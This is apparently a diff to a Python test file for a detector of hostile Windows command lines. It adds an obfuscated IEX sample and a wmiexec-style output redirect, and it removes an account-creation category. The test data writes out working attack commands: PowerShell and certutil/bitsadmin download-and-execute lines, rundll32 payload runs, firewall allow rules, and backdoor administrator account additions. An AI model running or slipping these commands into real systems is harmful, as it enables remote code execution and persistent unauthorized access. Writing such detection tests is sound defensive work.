@@ -130,6 +130,7 @@ POSITIVES: dict[str, list[str]] = {
         "powershell \"&( $ShellId[1]+$ShellId[13]+'x') ('dir')\"",
         "powershell \"( $VerbosePreference.ToString()[1,3]+'x'-Join'') ('dir')\"",
         "powershell \"&([char]105+[char]101+[char]120) 'dir'\"",
+        "powershell -C \"IEX ([char[]](73,69,88) -join '')\"",
     ],
     "fetch_and_run": [
         "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://10.1.2.3/a.ps1')\"",
@@ -139,12 +140,6 @@ POSITIVES: dict[str, list[str]] = {
         "cmd /c bitsadmin /transfer j /download http://x/a.exe C:\\Users\\Public\\a.exe "
         "& C:\\Users\\Public\\a.exe",
         "cmd /c certutil -urlcache -split -f http://x/a.dll a.dll && rundll32 a.dll,Start",
-    ],
-    "account_add": [
-        "net user backdoor P@ssw0rd1 /add",
-        "net1 localgroup administrators backdoor /add",
-        'net group "Domain Admins" eve /add /domain',
-        "powershell New-LocalUser -Name x -Password $p",
     ],
     "writable_config_target": [
         'netsh advfirewall firewall add rule name=u dir=in action=allow program="C:\\Users\\Public\\u.exe"',
@@ -209,9 +204,9 @@ def test_an_encoded_command_is_read_as_what_it_decodes_to(flag: str) -> None:
 
 
 def test_an_encoded_command_inside_an_encoded_command_is_decoded_too() -> None:
-    inner = "net user eve Winter2024! /add"
+    inner = "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1718034412.55 2>&1"
     outer = f"powershell -enc {_encoded(inner)}"
-    assert lone_indicator_names(lone_mask(f"powershell -ec {_encoded(outer)}")) == ("account_add",)
+    assert lone_indicator_names(lone_mask(f"powershell -ec {_encoded(outer)}")) == ("remote_shell_output",)
 
 
 def test_arguments_that_are_not_an_encoded_script_are_left_alone() -> None:
@@ -219,7 +214,7 @@ def test_arguments_that_are_not_an_encoded_script_are_left_alone() -> None:
     assert encoded_text(f"powershell -enc {noise}") == ""  # random bytes, not UTF-16 text
     not_encoded = f"powershell -ExecutionPolicy {_encoded('net user x y /add')}"
     assert encoded_text(not_encoded) == ""  # not -EncodedCommand
-    assert encoded_text(f"tool.exe -e {_encoded('net user x y /add')[:-3]}!!") != ""  # trailing junk is cut
+    assert encoded_text(f"tool.exe -e {_encoded('net user x y /add')}!!") == "net user x y /add"  # junk cut
     assert lone_mask(f"powershell -enc {_encoded('Get-Service W32Time')}") == 0
 
 
